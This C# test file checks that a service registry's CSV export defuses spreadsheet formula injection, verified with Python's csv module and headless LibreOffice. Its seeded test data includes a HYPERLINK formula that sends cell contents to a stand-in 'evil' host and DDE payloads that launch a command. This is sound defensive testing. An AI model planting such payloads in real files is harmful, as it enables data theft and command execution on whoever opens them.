using System.Diagnostics;
using System.Net;
using ServiceRegistry.Testing;

namespace ServiceRegistry.Web.Tests.Security;

/// <summary>
/// CSV formula injection (issue 13): text an editor typed must never reach a spreadsheet as a formula. The file is read
/// back by readers that are not ours: Python's csv module with a spreadsheet's formula rule, and LibreOffice itself.
/// </summary>
public sealed class InputsCsvTests : IAsyncLifetime
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil/?\"&A1,\"x\")";
    private const string Dde = "-2+3+cmd|'/C calc'!A0";

    private readonly RegistryApp _app = new();
    private HttpClient _client = null!;

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    public async ValueTask InitializeAsync()
    {
        _client = _app.CreateBrowserlessClient();
        await _app.SeedAsync(
            new CardBuilder().Titled(Hyperlink).With(c => c.Laws = [Dde, "قانون مدیریت خدمات کشوری"]).Published("11111111111"),
            new CardBuilder().Titled("@SUM(1+1)*cmd|' /C calc'!A0").With(c => c.Description = "+98 21 1234 5678").Published("11111111112"),
            new CardBuilder().Titled("\tتب =1+1").With(c => { c.Description = "\r=1+1"; c.Audience = "-12"; c.Provider.Unit = "+98"; }).Published("11111111113"));
    }

    public async ValueTask DisposeAsync() => await _app.DisposeAsync();

    private async Task<string> ExportToFileAsync()
    {
        var response = await _client.GetAsync("/api/v1/services/export?format=csv", Ct);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var path = Path.Combine(Path.GetTempPath(), $"sr-csv-{Guid.NewGuid():N}.csv");
        await File.WriteAllBytesAsync(path, await response.Content.ReadAsByteArrayAsync(Ct), Ct);
        return path;
    }

    [Fact]
    public async Task ExportCsv_CellsThatLookLikeFormulas_ReadAsTextWithAQuote()
    {
        // Arrange
        var path = await ExportToFileAsync();

        // Act: Python's csv module parses the cells as a spreadsheet's CSV import does (quotes removed), then applies
        // the spreadsheet's rule: a cell whose first character is = + - @ (or tab, carriage return, which some strip
        // first) is a formula, unless it is a plain number.
        var output = await RunAsync("/usr/bin/python3", "-c", """
            import csv, re, sys
            rows = list(csv.reader(open(sys.argv[1], encoding='utf-8-sig', newline='')))
            number = re.compile(r'[+-]?[0-9]+(\.[0-9]+)?\Z')
            formulas = [c for r in rows for c in r if c[:1] in ('=', '+', '-', '@', '\t', '\r') and not number.match(c)]
            print(len(rows), len(formulas))
            for r in rows[1:]:
                print('\x1f'.join(r))
            """, path);
        File.Delete(path);

        // Assert
        var lines = output.Split('\n');
        Assert.Equal("4 0", lines[0]);
        Assert.Contains("'" + Hyperlink, output, StringComparison.Ordinal);
        Assert.Contains("'" + Dde + "\n", output, StringComparison.Ordinal);
        Assert.Contains("'+98 21 1234 5678", output, StringComparison.Ordinal);
        Assert.Contains("'\r=1+1", output, StringComparison.Ordinal);
        Assert.Contains("\x1f-12\x1f", output, StringComparison.Ordinal); // a plain number stays a number
        Assert.Contains("\x1f+98\x1f", output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task ExportCsv_OpenedInLibreOffice_HasNoFormulaCell()
    {
        // Arrange: LibreOffice Calc (Debian's libreoffice-calc-nogui); skipped where it is not installed
        Assert.SkipUnless(File.Exists("/usr/bin/soffice") && File.Exists("/usr/lib/libreoffice/program/libsclo.so"), "LibreOffice Calc (libreoffice-calc-nogui) is not installed");
        var path = await ExportToFileAsync();
        var outDir = Directory.CreateTempSubdirectory("sr-csv-lo-").FullName;

        // Act: convert as a person opening the file would (comma, double quote, UTF-8, formulas evaluated), then read
        // the workbook LibreOffice wrote with openpyxl: a formula cell is data_type 'f'.
        await RunAsync("/usr/bin/soffice", "-env:UserInstallation=file://" + outDir + "/profile", "--headless",
            "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true", "--convert-to", "xlsx", "--outdir", outDir, path);
        var xlsx = Path.Combine(outDir, Path.GetFileNameWithoutExtension(path) + ".xlsx");
        Assert.True(File.Exists(xlsx), "LibreOffice wrote no workbook (without Calc it exits 0 and writes nothing)");
        var output = await RunAsync("/usr/bin/python3", "-c", """
            import openpyxl, sys
            ws = openpyxl.load_workbook(sys.argv[1]).active
            cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
            print(ws.max_row, sum(1 for c in cells if c.data_type == 'f'))
            print('\x1f'.join(str(c.value) for c in cells))
            """, xlsx);
        File.Delete(path);
        Directory.Delete(outDir, recursive: true);

        // Assert
        var lines = output.Split('\n');
        Assert.Equal("4 0", lines[0]);
        Assert.Contains("HYPERLINK(\"http://evil/?\"&A1,\"x\")", lines[1], StringComparison.Ordinal);
    }

    private static async Task<string> RunAsync(string program, params string[] arguments)
    {
        var start = new ProcessStartInfo(program) { RedirectStandardOutput = true, RedirectStandardError = true };
        foreach (var argument in arguments)
        {
            start.ArgumentList.Add(argument);
        }

        start.Environment["PYTHONIOENCODING"] = "utf-8";
        using var process = Process.Start(start)!;
        var output = process.StandardOutput.ReadToEndAsync(Ct);
        var error = await process.StandardError.ReadToEndAsync(Ct);
        await process.WaitForExitAsync(Ct);
        Assert.True(process.ExitCode == 0, error);
        return await output;
    }
}
